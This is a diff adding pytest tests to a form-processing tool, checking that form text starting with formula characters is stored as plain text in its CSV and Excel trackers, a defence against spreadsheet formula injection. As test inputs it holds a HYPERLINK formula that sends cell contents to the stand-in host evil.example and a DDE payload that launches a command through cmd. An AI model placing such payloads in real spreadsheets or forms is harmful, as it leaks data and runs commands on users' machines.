@@ -13,9 +13,12 @@ import threading
 from pathlib import Path
 
 import pytest
+from click.testing import CliRunner
 from openpyxl import load_workbook
 from service_support import CHILD_NAME, drop_json, fake_pipeline, make_challenge
 
+from filled_forms import fill_docx
+from formflow.cli import main
 from formflow.core.calendar import WorkingCalendar
 from formflow.core.record import Closure, ClosureKind
 from formflow.pipeline import Outcome
@@ -155,3 +158,62 @@ def test_refresh_reads_the_register(tmp_path: Path) -> None:
     assert len(result.written) == 2
     sheet = load_workbook(pipeline.home.outbox / "tracker.xlsx").active
     assert sheet.max_row == 2
+
+
+# --- text typed on a form stays text ------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Click me")'
+FORMULA_STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tbefore", "\rbefore"]
+
+
+def _cells(path: Path, reference: str) -> dict[str, str]:
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    row = next(r for r in rows if r[0] == reference)
+    return dict(zip(rows[0], row, strict=True))
+
+
+@pytest.mark.parametrize("typed", FORMULA_STARTS, ids=["=", "+", "-", "@", "tab", "cr"])
+def test_a_team_typed_like_a_formula_is_text_in_both_trackers(tmp_path: Path, typed: str) -> None:
+    challenge = make_challenge(reference="PC-2025-CCCCCC", team=typed)
+    tracker.write_tracker(tmp_path, [challenge], built_in(), WorkingCalendar(), TODAY)
+    assert _cells(tmp_path / "tracker.csv", "PC-2025-CCCCCC")["Team"] == f"'{typed}"
+    team = load_workbook(tmp_path / "tracker.xlsx").active["F2"]
+    assert (team.value, team.data_type) == (typed, "s")
+
+
+def test_ordinary_text_is_written_unchanged(tmp_path: Path) -> None:
+    tracker.write_tracker(tmp_path, [OVERDUE], built_in(), WorkingCalendar(), TODAY)
+    cells = _cells(tmp_path / "tracker.csv", "PC-2025-AAAAAA")
+    assert cells["Team"] == "Children in Care Team 2" and cells["Due"] == "2025-11-10"
+
+
+def test_a_form_typed_with_formulas_is_text_in_the_tracker_and_the_export(tmp_path: Path) -> None:
+    """A real form through `formflow process` and `formflow export`: the team and the
+    case number Excel would run are text in tracker.xlsx, tracker.csv and both exports."""
+    home = tmp_path / "home"
+    runner = CliRunner()
+    sample = tmp_path / "sample.docx"
+    made = runner.invoke(main, ["new", "--sample", "--home", str(home), "-o", str(sample)])
+    assert made.exit_code == 0, made.output
+    typed = {"team": HYPERLINK, "child_case_number": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    form = fill_docx(sample, tmp_path / "challenge.docx", typed)
+    processed = runner.invoke(main, ["process", "--home", str(home), str(form)])
+    assert processed.exit_code == 0, processed.output
+    reference = processed.output.split()[-1]
+    files = ["--csv", str(tmp_path / "e.csv"), "--xlsx", str(tmp_path / "e.xlsx")]
+    exported = runner.invoke(main, ["export", "--home", str(home), *files])
+    assert exported.exit_code == 0, exported.output
+    for csv_file in (home / "outbox" / "tracker.csv", tmp_path / "e.csv"):
+        cells = _cells(csv_file, reference)
+        assert (cells["Team"], cells["Case number"]) == (
+            f"'{HYPERLINK}",
+            f"'{typed['child_case_number']}",
+        )
+    for workbook in (home / "outbox" / "tracker.xlsx", tmp_path / "e.xlsx"):
+        sheet = load_workbook(workbook).active
+        row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == reference)
+        case_number = row[EXPORT_COLUMNS.index("Case number")]
+        team = row[EXPORT_COLUMNS.index("Team")]
+        assert (team.value, team.data_type) == (HYPERLINK, "s")
+        assert (case_number.value, case_number.data_type) == (typed["child_case_number"], "s")
